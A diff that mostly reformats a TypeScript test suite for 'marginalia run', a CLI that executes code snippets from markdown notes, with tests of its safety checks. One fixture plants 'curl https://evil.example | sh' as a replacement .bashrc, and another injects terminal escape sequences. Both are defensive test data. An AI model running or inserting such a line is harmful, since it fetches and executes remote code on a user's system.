@@ -11,7 +11,10 @@ const CLI_JS = path.resolve(__dirname, '../../dist/cli.js');
 /** Each test run gets its own temp dir, so scratch directories (`<tmp>/marginalia-runs-<uid>`) start empty. */
 let tmp: string;
 
-function runCli(args: string[], options: { input?: string; cwd?: string; timeoutMs?: number; env?: NodeJS.ProcessEnv } = {}): SpawnSyncReturns<string> {
+function runCli(
+  args: string[],
+  options: { input?: string; cwd?: string; timeoutMs?: number; env?: NodeJS.ProcessEnv } = {},
+): SpawnSyncReturns<string> {
   return spawnSync(process.execPath, [CLI_JS, 'run', ...args], {
     cwd: options.cwd ?? tmp,
     env: { ...process.env, TMPDIR: tmp, ...options.env },
@@ -75,12 +78,16 @@ describe('cli: marginalia run', function () {
     const lines = Array.from({ length: 12 }, (_, i) => `echo step ${i + 1}`);
     const script = [...lines, 'echo hidden-line-13 \x1b]0;pwned\x07\x1b[2K\rclean', 'sudo apt-get install -y verilator'].join('\n');
     const file = note(['# Build', '', fenced('text file=greeting.txt', 'hi'), fenced('bash', script)].join('\n'));
-    const shown = spawnSync('script', ['-qec', `${JSON.stringify(process.execPath)} ${JSON.stringify(CLI_JS)} run ${JSON.stringify(file)}`, '/dev/null'], {
-      input: 'n\n',
-      encoding: 'utf8',
-      env: { ...process.env, TMPDIR: tmp },
-      timeout: 30_000,
-    }).stdout;
+    const shown = spawnSync(
+      'script',
+      ['-qec', `${JSON.stringify(process.execPath)} ${JSON.stringify(CLI_JS)} run ${JSON.stringify(file)}`, '/dev/null'],
+      {
+        input: 'n\n',
+        encoding: 'utf8',
+        env: { ...process.env, TMPDIR: tmp },
+        timeout: 30_000,
+      },
+    ).stdout;
     assert.match(shown, /echo step 12\r?\n +echo hidden-line-13 \\e\]0;pwned\\a\\e\[2K\\rclean\r?\n +sudo apt-get install -y verilator/);
     assert.doesNotMatch(shown, /more lines/);
     assert.doesNotMatch(shown, /\x1b\]0;pwned/, 'the note cannot send escape sequences to the terminal');
@@ -94,12 +101,16 @@ describe('cli: marginalia run', function () {
     if (spawnSync('script', ['--version'], { stdio: 'ignore' }).status !== 0) this.skip();
     const file = note(fenced('bash {cwd=.}', 'touch ran'));
     const command = (answer: string) =>
-      spawnSync('script', ['-qec', `${JSON.stringify(process.execPath)} ${JSON.stringify(CLI_JS)} run ${JSON.stringify(file)}`, '/dev/null'], {
-        input: `${answer}\n`,
-        encoding: 'utf8',
-        env: { ...process.env, TMPDIR: tmp },
-        timeout: 30_000,
-      });
+      spawnSync(
+        'script',
+        ['-qec', `${JSON.stringify(process.execPath)} ${JSON.stringify(CLI_JS)} run ${JSON.stringify(file)}`, '/dev/null'],
+        {
+          input: `${answer}\n`,
+          encoding: 'utf8',
+          env: { ...process.env, TMPDIR: tmp },
+          timeout: 30_000,
+        },
+      );
     const no = command('n');
     assert.match(no.stdout, /note\.md would run:[\s\S]*touch ran[\s\S]*Run it\? \[y\/N\]/);
     assert.match(no.stdout, /Not run\./);
@@ -110,7 +121,9 @@ describe('cli: marginalia run', function () {
   });
 
   it('runs --all in note order and stops at the first failure', () => {
-    const file = note(['# Steps', '', fenced('bash', 'echo one'), fenced('console', '$ echo two\ntwo\n$ exit 4'), fenced('bash', 'echo three')].join('\n'));
+    const file = note(
+      ['# Steps', '', fenced('bash', 'echo one'), fenced('console', '$ echo two\ntwo\n$ exit 4'), fenced('bash', 'echo three')].join('\n'),
+    );
     const result = runCli([file, '--all', '--yes']);
     assert.equal(result.status, 4);
     assert.equal(result.stdout, 'one\ntwo\n');
@@ -142,8 +155,18 @@ describe('cli: marginalia run', function () {
     assert.equal(beside.stdout, `hi from a file block\n${fs.realpathSync(path.dirname(file))}\n`);
   });
 
-  it('writes only the file blocks of the snippet\'s own section', () => {
-    const file = note(['# Build', '', fenced('text file=mine.txt', 'mine'), fenced('bash', 'ls'), '## Appendix', '', fenced('text file=other.txt', 'not for this run')].join('\n'));
+  it("writes only the file blocks of the snippet's own section", () => {
+    const file = note(
+      [
+        '# Build',
+        '',
+        fenced('text file=mine.txt', 'mine'),
+        fenced('bash', 'ls'),
+        '## Appendix',
+        '',
+        fenced('text file=other.txt', 'not for this run'),
+      ].join('\n'),
+    );
     const result = runCli([file, '--yes']);
     assert.equal(result.status, 0, result.stderr);
     assert.equal(result.stdout, 'mine.txt\n');
@@ -152,11 +175,27 @@ describe('cli: marginalia run', function () {
   it('clicking a {cwd=~} echo does not replace ~/.bashrc from a file block tucked in <details>', () => {
     const home = fs.mkdtempSync(path.join(tmp, 'home-'));
     fs.writeFileSync(path.join(home, '.bashrc'), 'export PS1=mine\n');
-    const file = note(['# Setup', '', fenced('bash {cwd=~}', 'echo hello'), '<details><summary>more</summary>', '', fenced('sh file=.bashrc', 'curl https://evil.example | sh'), '</details>'].join('\n'));
+    const file = note(
+      [
+        '# Setup',
+        '',
+        fenced('bash {cwd=~}', 'echo hello'),
+        '<details><summary>more</summary>',
+        '',
+        fenced('sh file=.bashrc', 'curl https://evil.example | sh'),
+        '</details>',
+      ].join('\n'),
+    );
     const result = runCli([file, '--yes'], { env: { HOME: home } });
     assert.equal(result.status, 2, result.stderr);
     assert.equal(result.stdout, '', 'echo hello did not run');
-    assert.match(result.stderr, new RegExp(`^✗ not run: ${home} is not the run's own directory, and the file blocks would replace \\.bashrc \\(file block at line 9\\) there; a file there is replaced only after asking$`, 'm'));
+    assert.match(
+      result.stderr,
+      new RegExp(
+        `^✗ not run: ${home} is not the run's own directory, and the file blocks would replace \\.bashrc \\(file block at line 9\\) there; a file there is replaced only after asking$`,
+        'm',
+      ),
+    );
     assert.match(result.stderr, /^Run it without --yes to see the files and be asked\.$/m);
     assert.equal(fs.readFileSync(path.join(home, '.bashrc'), 'utf8'), 'export PS1=mine\n');
   });
@@ -197,7 +236,10 @@ describe('cli: marginalia run', function () {
     const result = runCli([file, '--yes'], { env: { TMPDIR: shared } });
     assert.equal(result.status, 2, result.stderr);
     assert.equal(result.stdout, '');
-    assert.match(result.stderr, /^✗ run directory .*marginalia-runs-\d+ is a symbolic link; not following it, as anyone could have planted it\. Remove it and run again\.$/m);
+    assert.match(
+      result.stderr,
+      /^✗ run directory .*marginalia-runs-\d+ is a symbolic link; not following it, as anyone could have planted it\. Remove it and run again\.$/m,
+    );
     assert.deepEqual(fs.readdirSync(attacker), []);
   });
 
@@ -215,11 +257,20 @@ describe('cli: marginalia run', function () {
   it('kills the whole tree on Ctrl-C and exits 130', async () => {
     const marker = uniqueSleepArgument();
     const file = note(fenced('bash', `sleep ${marker} & sleep ${marker}`));
-    const child = spawn(process.execPath, [CLI_JS, 'run', file, '--yes'], { env: { ...process.env, TMPDIR: tmp }, stdio: ['ignore', 'pipe', 'pipe'] });
+    const child = spawn(process.execPath, [CLI_JS, 'run', file, '--yes'], {
+      env: { ...process.env, TMPDIR: tmp },
+      stdio: ['ignore', 'pipe', 'pipe'],
+    });
     let stderr = '';
     child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
     const exited = new Promise<number | null>((resolve) => child.once('exit', (code) => resolve(code)));
-    assert.ok(await eventually(() => processesMatching(`sleep ${marker}`).filter((line) => /^\s*\d+\s+\d+\s+\S+\s+sleep /.test(line)).length === 2, 10_000), 'both sleeps started');
+    assert.ok(
+      await eventually(
+        () => processesMatching(`sleep ${marker}`).filter((line) => /^\s*\d+\s+\d+\s+\S+\s+sleep /.test(line)).length === 2,
+        10_000,
+      ),
+      'both sleeps started',
+    );
     child.kill('SIGINT');
     assert.equal(await exited, 130, stderr);
     assert.match(stderr, /■ stopped/);
@@ -238,7 +289,10 @@ describe('cli: marginalia run', function () {
     const a = uniqueSleepArgument();
     const b = uniqueSleepArgument();
     const file = note(fenced('bash', `setsid sleep ${a} & sleep ${b}`));
-    const child = spawn(process.execPath, [CLI_JS, 'run', file, '--yes'], { env: { ...process.env, TMPDIR: tmp }, stdio: ['ignore', 'pipe', 'pipe'] });
+    const child = spawn(process.execPath, [CLI_JS, 'run', file, '--yes'], {
+      env: { ...process.env, TMPDIR: tmp },
+      stdio: ['ignore', 'pipe', 'pipe'],
+    });
     const exited = new Promise<NodeJS.Signals | null>((resolve) => child.once('exit', (_code, signal) => resolve(signal)));
     const sleeps = (marker: string) => processesMatching(`sleep ${marker}`).filter((line) => /^\s*\d+\s+\d+\s+\S+\s+sleep /.test(line));
     assert.ok(await eventually(() => sleeps(a).length === 1 && sleeps(b).length === 1, 10_000), 'both sleeps started');
@@ -251,10 +305,16 @@ describe('cli: marginalia run', function () {
     const file = note(['# Two', '', fenced('bash', 'echo a'), fenced('python', 'print(1)'), fenced('bash {name=b}', 'echo b')].join('\n'));
     assertCleanError(runCli([path.join(tmp, 'missing.md'), '--yes']), /^marginalia run: no such note: .*missing\.md$/m);
     assertCleanError(runCli([tmp, '--yes']), /is a folder, not a note/);
-    assertCleanError(runCli([file, '--yes']), /note\.md has 2 snippets; choose one with --line or --name.*snippets start at line 3, line 11 \(b\)/);
+    assertCleanError(
+      runCli([file, '--yes']),
+      /note\.md has 2 snippets; choose one with --line or --name.*snippets start at line 3, line 11 \(b\)/,
+    );
     assertCleanError(runCli([file, '--line', '1', '--yes']), /line 1 of note\.md is not inside a code block/);
     assertCleanError(runCli([file, '--line', '8', '--yes']), /block at line 7 is not runnable: language "python" is not one of bash/);
-    assertCleanError(runCli([file, '--name', 'nope', '--yes']), /note\.md has no snippet named 'nope'; snippets start at line 3, line 11 \(b\)/);
+    assertCleanError(
+      runCli([file, '--name', 'nope', '--yes']),
+      /note\.md has no snippet named 'nope'; snippets start at line 3, line 11 \(b\)/,
+    );
     const binary = path.join(tmp, 'binary.md');
     fs.writeFileSync(binary, Buffer.from([0x23, 0x20, 0x00, 0x01, 0x02]));
     assertCleanError(runCli([binary, '--yes']), /binary\.md: binary content \(NUL bytes\), not a text note/);
@@ -263,7 +323,13 @@ describe('cli: marginalia run', function () {
 
   it('reports command-line mistakes with the usage text', () => {
     const file = note(fenced('bash', 'echo a'));
-    for (const args of [[file, '--line', 'x'], [file, '--line', '2', '--name', 'a'], [file, '--timeout', 'soon'], [file, '--cwd', 'home'], []]) {
+    for (const args of [
+      [file, '--line', 'x'],
+      [file, '--line', '2', '--name', 'a'],
+      [file, '--timeout', 'soon'],
+      [file, '--cwd', 'home'],
+      [],
+    ]) {
       const result = runCli(args);
       assert.equal(result.status, 2, `${args.join(' ')}: ${result.stderr}`);
       assert.match(result.stderr, /^marginalia: .*\n\nUsage: marginalia <command>/);
